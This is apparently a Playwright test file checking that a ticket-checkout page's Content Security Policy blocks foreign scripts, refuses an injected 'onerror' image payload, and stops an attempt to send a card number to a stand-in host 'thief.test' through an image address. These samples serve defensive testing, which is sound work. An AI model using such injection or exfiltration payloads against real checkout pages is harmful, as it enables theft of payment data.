import { expect, test } from '@playwright/test';
import { checkOutWith } from '../src/steps/choose-tickets';
import { journeyOrigins } from '../src/store/journey-store';

test('a checkout document runs under its policy without a violation, and loads no code of another remote', async ({
  page,
}) => {
  const scripts: string[] = [];
  const violations: string[] = [];
  await checkOutWith(page, 'harbor', 'General Admission', 1);
  page.on('request', (request) => {
    if (request.resourceType() === 'script') scripts.push(request.url());
  });
  // An organiser's hostile description on the event page is rightly complained about; here nothing may be.
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  const answer = await page.reload();
  await expect(page.getByRole('textbox', { name: 'Card number' })).toBeVisible();

  const policy = answer?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'; script-src 'unsafe-inline' 'self' ");
  expect(policy).toMatch(/, script-src 'self' \S+( 'sha256-\S+')+;/);
  expect(policy).not.toMatch(/unsafe-eval|nonce|dompurify/);
  expect(violations).toEqual([]);
  const parts = new Set(scripts.map((url) => new URL(url).pathname.split('/')[1]));
  expect([...parts].sort()).toEqual(['remote-checkout-mx', 'shell']);
});

test('an injected script does not run', async ({ page }) => {
  await page.goto('/events/harbor/checkout');
  const outcome = await page.evaluate(() => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.attacked = true">');
      return 'inserted';
    } catch (error) {
      return error instanceof TypeError && !('attacked' in window) ? 'refused' : 'attacked';
    }
  });
  expect(outcome).toBe('refused');
});

test('a checkout cannot send data in the address of a picture, and shows the pictures of its event', async ({
  page,
}) => {
  const asked: string[] = [];
  await page.route('https://thief.test/**', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await page.goto('/events/harbor/checkout');
  await expect(page.getByRole('img').first()).toHaveJSProperty('complete', true);
  const refused = await page.evaluate(async () => {
    const violated = new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (violation) =>
        resolve(`${violation.effectiveDirective} ${new URL(violation.blockedURI).host}`),
      );
    });
    new Image().src = 'https://thief.test/?card=4111';
    return violated;
  });
  expect(refused).toBe('img-src thief.test');
  expect(asked).toEqual([]);
});

test('a window that a checkout opens for a bank or a wallet can answer it', async ({ page }) => {
  const body = '<script>opener.postMessage("confirmed", "*")</script>';
  await page
    .context()
    .route('https://bank.test/', (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.goto('/events/stripe-paid/checkout');
  const answer = await page.evaluate(() => {
    const heard = new Promise((resolve) => {
      window.addEventListener('message', ({ origin, data }) => {
        if (origin === 'https://bank.test') resolve(data);
      });
    });
    window.open('https://bank.test/', 'bank', 'width=450,height=535');
    return heard;
  });
  expect(answer).toBe('confirmed');
});

test('header and footer lead to the provider', async ({ page }) => {
  await page.goto('/');
  for (const [name, address] of [
    ['Terms & Conditions', 'https://www.example.com/terms'],
    ['Privacy Policy', 'https://www.example.com/privacy'],
    ['Contact Us', 'https://www.example.com/contact'],
  ] as const) {
    await expect(page.getByRole('contentinfo').getByRole('link', { name })).toHaveAttribute('href', address);
  }
  await expect(page.getByRole('banner').getByRole('link').first()).toHaveAttribute('target', '_blank');
  expect(journeyOrigins.assets).not.toBe(journeyOrigins.storefront);
});

test('the checkout of an unknown processor shows a notice, and loads no other checkout', async ({ page }) => {
  const scripts: string[] = [];
  page.on('request', (request) => request.resourceType() === 'script' && scripts.push(request.url()));
  await page.goto('/events/unserved/checkout');
  await expect(page.getByRole('alert')).toContainText('its payment processor is not supported');
  await expect(page.getByRole('button', { name: /^(Pay|Place Order|Complete Order)/ })).toHaveCount(0);
  const parts = new Set(scripts.map((url) => new URL(url).pathname.split('/')[1]));
  expect([...parts]).not.toContainEqual(expect.stringContaining('remote-checkout'));
});
